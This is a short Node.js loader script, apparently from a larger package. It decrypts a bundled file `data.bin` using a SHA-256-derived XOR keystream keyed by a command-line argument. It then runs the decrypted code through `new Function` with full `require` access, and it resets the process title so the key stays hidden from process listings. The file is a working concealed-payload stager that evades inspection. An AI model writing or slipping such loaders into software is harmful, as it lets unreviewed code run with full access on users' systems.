// Uncovers what calls the package, with the key it is started with (see `drive/veil.rs`), and starts it.
'use strict'
const { createHash } = require('node:crypto')
const fs = require('node:fs')
const key = Buffer.from(process.argv[2], 'hex')
// The command line can be read by every process of the same user.
process.title = 'node'
const bytes = fs.readFileSync(__dirname + '/data.bin')
const number = Buffer.alloc(4)
for (let at = 0; at < bytes.length; at += 32) {
  number.writeUInt32BE(at / 32)
  const mask = createHash('sha256').update(key).update(number).digest()
  for (let idx = 0; idx < 32 && at + idx < bytes.length; idx++) bytes[at + idx] ^= mask[idx]
}
const plan = JSON.parse(bytes.toString('utf8'))
new Function('require', 'plan', plan.parts.supervisor)(require, plan)
